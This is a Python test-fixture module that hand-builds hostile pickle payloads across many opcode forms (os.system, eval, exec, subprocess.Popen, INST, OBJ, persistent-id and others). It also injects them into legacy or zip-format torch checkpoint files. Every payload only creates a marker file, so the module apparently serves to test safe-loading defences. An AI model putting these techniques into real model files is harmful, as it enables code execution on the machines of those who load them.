"""Hand-made hostile pickles: every opcode form that makes an unpickler import or call
something, each with a payload that would create a marker file if it ever ran."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import torch

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def text(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL


def stack_glob(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"  # STACK_GLOBAL


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + b"(" + b"".join(args) + b"tR"  # MARK args TUPLE REDUCE


def payloads(marker: Path) -> dict[str, bytes]:
    """name -> pickle bytes; each would create ``marker`` when run by a plain unpickler."""
    m = str(marker)
    touch = f"touch {m}"
    partial = call(glob("functools", "partial"), glob("os", "system"), text(touch))
    return {
        "global-reduce-os.system": PROTO2 + call(glob("os", "system"), text(touch)) + b".",
        "stack-global-reduce-posix.system": PROTO4 + call(stack_glob("posix", "system"), text(touch)) + b".",
        "builtins.eval": PROTO2 + call(glob("builtins", "eval"), text(f"open({m!r}, 'w')")) + b".",
        "builtins.exec-via-__builtin__": PROTO2 + call(glob("__builtin__", "exec"), text(f"open({m!r}, 'w')")) + b".",
        "subprocess.Popen": PROTO2 + call(glob("subprocess", "Popen"), b"(" + text("touch") + text(m) + b"l") + b".",
        "functools.partial-called": PROTO2 + partial + b")R.",
        "logging.FileHandler": PROTO2 + call(glob("logging", "FileHandler"), text(m), text("w")) + b".",
        "numpy.memmap": PROTO2 + call(glob("numpy", "memmap"), text(m), text("w+"), text("uint8"), text("w+")) + b".",
        "inst-os.system": b"(" + text(touch) + b"i" + b"os\nsystem\n.",
        "obj-os.system": b"(" + glob("os", "system") + text(touch) + b"o.",
        "newobj-build-Popen": PROTO2 + glob("subprocess", "Popen") + b")\x81" + b"}" + text("args") + text(touch)
        + b"sb.",
        "allowed-class-build-smuggles-call": PROTO2 + glob("argparse", "Namespace") + b")\x81}" + text("x")
        + call(glob("os", "system"), text(touch)) + b"sb.",
        "persistent-id-os.system": PROTO2 + b"(" + text("storage") + call(glob("os", "system"), text(touch))
        + text("0") + text("cpu") + b"K\x01tQ.",
        "unittest.main.TestProgram": PROTO2 + call(glob("unittest.main", "TestProgram"), text("os")) + b".",
        "pdb.Pdb": PROTO2 + call(glob("pdb", "Pdb")) + b".",
    }


def legacy_file(path: Path, payload: bytes) -> Path:
    """A file torch.load reads in its legacy (non-zip) format."""
    path.write_bytes(payload)
    return path


def zip_file(path: Path, payload: bytes) -> Path:
    """A torch zip archive (made by torch.save) whose data.pkl is replaced by ``payload``."""
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as out:
        for info in src.infolist():
            data = payload if info.filename.endswith("/data.pkl") else src.read(info)
            out.writestr(info.filename, data)
    return path
